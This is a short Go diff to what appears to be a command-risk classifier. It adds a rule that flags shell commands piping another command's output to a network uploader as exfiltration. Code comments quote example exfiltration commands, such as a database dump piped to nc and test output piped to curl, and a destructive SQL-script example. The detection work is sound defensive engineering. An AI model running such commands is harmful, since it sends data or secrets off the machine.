@@ -337,6 +337,12 @@ func stdinClasses(cmd *Command, name string, roles role, in stdin) {
 			addClass(cmd, ClassRisk{Class: ClassCredential, Reason: name + " is told on its input to read the credential file " + f, Token: f})
 		}
 	}
+	if in.kind == stdinPipe && !in.files && uploadsInput(name, cmd.Args) && !uploadsLocally(name, cmd.Args) {
+		// "npm test 2>&1 | curl -d @- URL", "pg_dump prod | nc host 9000":
+		// what leaves is whatever the command before it printed, which no
+		// rule on a file can vouch for.
+		addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends the output of the command piped into it, unseen here, to the network", Token: name})
+	}
 	if (in.kind == stdinFile || in.kind == stdinPipe) && roles&roleSQLShell != 0 && !sqlInline(cmd.Args) {
 		// "psql prod < drop.sql", "cat x.sql | mysql": the statements are
 		// not in the call, so nobody approving it sees what they do.
